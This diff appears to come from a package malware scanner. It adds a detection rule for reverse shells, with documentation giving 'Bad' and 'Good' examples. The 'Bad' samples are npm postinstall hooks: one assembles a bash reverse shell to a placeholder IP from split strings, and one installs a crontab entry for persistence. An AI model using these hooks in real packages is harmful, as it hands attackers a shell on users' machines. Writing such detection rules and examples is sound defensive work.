@@ -140,6 +140,7 @@ pub mod impact {
     pub mod request_function_replaced;
     pub mod reverse_shell_opened;
     pub mod revocation_punished;
+    pub mod shell_seen_given;
     pub mod users_files_seen_deleted;
     pub mod wallet_function_replaced;
 }
@@ -349,6 +350,7 @@ pub static RULES: &[&dyn Rule] = &[
     &impact::request_function_replaced::RequestFunctionReplaced,
     &impact::reverse_shell_opened::ReverseShellOpened,
     &impact::revocation_punished::RevocationPunished,
+    &impact::shell_seen_given::ShellSeenGiven,
     &impact::users_files_seen_deleted::UsersFilesSeenDeleted,
     &impact::wallet_function_replaced::WalletFunctionReplaced,
     &known::known_bad_bytes::KnownBadBytes,
@@ -5955,6 +5957,44 @@ exports.poll = (address, token, expired) => setInterval(async () => {
 "#,
     ),
     (
+        "shell-seen-given",
+        r#"# A shell is seen being given to another machine
+
+Run in a fake world, the code started a command that connects a shell to another machine.
+
+## Why it matters
+
+Whoever listens there types what they like, as the user who installed the package.
+
+## Known benign uses
+
+Tools for remote work start such commands when a person asks for it: a finding of theirs is no proof.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+const parts = ["bash -i >& /dev/tcp", "198.51.100.7", "4444 0>&1"];
+require("child_process").execSync(parts.join("/")); //~ here
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+require("child_process").execSync("bash -c 'echo ready'");
+```
+
+## References
+
+- MITRE ATT&CK T1059.004
+"#,
+    ),
+    (
         "users-files-seen-deleted",
         r#"# The user's own files are seen being deleted
 
@@ -7375,6 +7415,14 @@ Tools that people install to have hooks set up write git hooks: such a tool is n
 const fs = require("fs"), os = require("os");
 const name = [46, 98, 97, 115, 104, 114, 99].map((code) => String.fromCharCode(code)).join("");
 fs.appendFileSync(os.homedir() + "/" + name, "\n(node ~/.a.js &)\n"); //~ here
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+const line = ["*/10 * * * *", "node", "~/.a.js"].join(" ");
+require("child_process").execSync(`(crontab -l; echo "${line}") | crontab -`); //~ here
 ```
 
 ## Good
